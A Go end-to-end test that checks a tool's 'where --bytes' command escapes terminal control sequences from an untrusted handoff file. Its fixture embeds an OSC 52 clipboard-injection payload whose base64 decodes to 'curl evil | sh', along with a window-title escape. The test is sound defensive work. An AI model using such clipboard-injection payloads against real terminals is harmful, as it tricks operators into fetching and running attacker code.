package e2e

import (
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestWhereBytesOnTerminal: a writer host's handoff holds an OSC 52
// sequence (set the clipboard) and an OSC 2 one (the window title).
// where --bytes on a terminal shows them as escapes and says so on
// stderr; --raw, and a pipe, write the exact bytes (issue 48, item 11:
// the operator's clipboard became `curl … | sh`). Invariant: nothing a
// host wrote reaches the operator's terminal as a control sequence
// unless asked for with --raw.
func TestWhereBytesOnTerminal(t *testing.T) {
	w := newWorld(t)
	hostile := docHandoff("TOOLS.md", "- jq\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 for receipts\x1b]2;pwned\x07\r\n- fine\r\n")
	mustWrite(t, filepath.Join(w.inboxes[0], "osc.md"), hostile)
	if code, out := w.sync(); code != 0 {
		t.Fatalf("sync: %d\n%s", code, out)
	}
	code, out := runOnPTY(t, "where", "--bytes", "osc.md", "--manifest", w.manifest)
	if code != 0 {
		t.Fatalf("where --bytes on a terminal: exit %d\n%q", code, out)
	}
	if strings.Contains(out, "\x1b]") || strings.Contains(out, "\x07") {
		t.Errorf("the terminal got the host's escape sequences:\n%q", out)
	}
	for _, want := range []string{`jq\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a for receipts`, "- fine", "4 characters a terminal would act on", "--raw"} {
		if !strings.Contains(out, want) {
			t.Errorf("terminal output lacks %q:\n%s", want, out)
		}
	}

	code, out = runOnPTY(t, "where", "--bytes", "--raw", "osc.md", "--manifest", w.manifest)
	if code != 0 || !strings.Contains(out, "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07") {
		t.Errorf("--raw on a terminal: exit %d, want the bytes as they are:\n%q", code, out)
	}

	piped, err := exec.Command(binary(), "where", "--bytes", "osc.md", "--manifest", w.manifest).Output()
	if err != nil || string(piped) != hostile {
		t.Errorf("piped: %v; got %q, want the exact bytes", err, piped)
	}
}
